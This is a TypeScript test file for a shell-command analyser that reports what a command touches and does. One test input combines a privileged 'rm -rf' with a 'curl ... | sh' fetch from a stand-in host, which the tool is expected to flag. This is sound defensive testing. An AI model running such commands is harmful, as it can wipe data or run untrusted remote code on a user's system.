import { describe, expect, test } from 'bun:test';
import { describeReading } from '../../src/tools/report/explanation/describe-reading.ts';
import { readingJson } from '../../src/tools/report/explanation/reading-json.ts';
import { read } from '../reading/reads.ts';

describe('describeReading', () => {
  test('shows a tree with places, ways and effects', () => {
    expect(
      describeReading(read("sudo sh -c 'cd /srv && rm -rf x $Y' > 'a b'; curl https://x.example/i | sh")),
    ).toEqual([
      "sudo sh -c 'cd /srv && rm -rf x $Y' > 'a b'  [0-43]",
      "  - writes '/work/a b'",
      "  sh -c 'cd /srv && rm -rf x $Y'  [5-35; sudo (wrapper); privileged]",
      '    cd /srv  [12-19; sudo (wrapper) > sh (shell); privileged]',
      '    rm -rf x ‹$Y›  [23-34; sudo (wrapper) > sh (shell); privileged; more words may follow]',
      '      - deletes /srv/x and everything below',
      '      - deletes ‹$Y› and everything below',
      'curl https://x.example/i  [45-69]',
      '  - fetches https://x.example/i (https)',
      'sh  [72-74]',
      '  - runs code fetched from https://x.example/i',
      '! Cannot read what a shell reads as its input: it is computed or comes from outside [72-74]',
    ]);
  });

  test('shortens words that are long and keeps every command on a line', () => {
    const lines = describeReading(read(`echo "${'a'.repeat(1_000)}" "b\nc"`));
    expect(lines).toHaveLength(1);
    expect(lines[0]?.length).toBeLessThan(300);
    expect(lines[0]).toContain("'b⏎c'");
  });
});

test('readingJson has the same facts as data', () => {
  expect(readingJson(read('git log "$X" *.txt'))).toEqual({
    complete: true,
    gaps: [],
    commands: [
      {
        name: 'git',
        program: 'git',
        args: ['log', [{ unknown: '$X' }], [{ glob: '*' }, '.txt']],
        flags: [],
        operands: ['log', [{ unknown: '$X' }], [{ glob: '*' }, '.txt']],
        subcommands: 1,
        open_ended: false,
        assignments: [],
        redirections: [],
        input: null,
        feeds: [],
        fed_by: [],
        start: 0,
        end: 18,
        via: [],
        parent: null,
        wrapper: false,
        privileged: false,
        remote: false,
        cwd: '/work',
        effects: [],
      },
    ],
  });
});
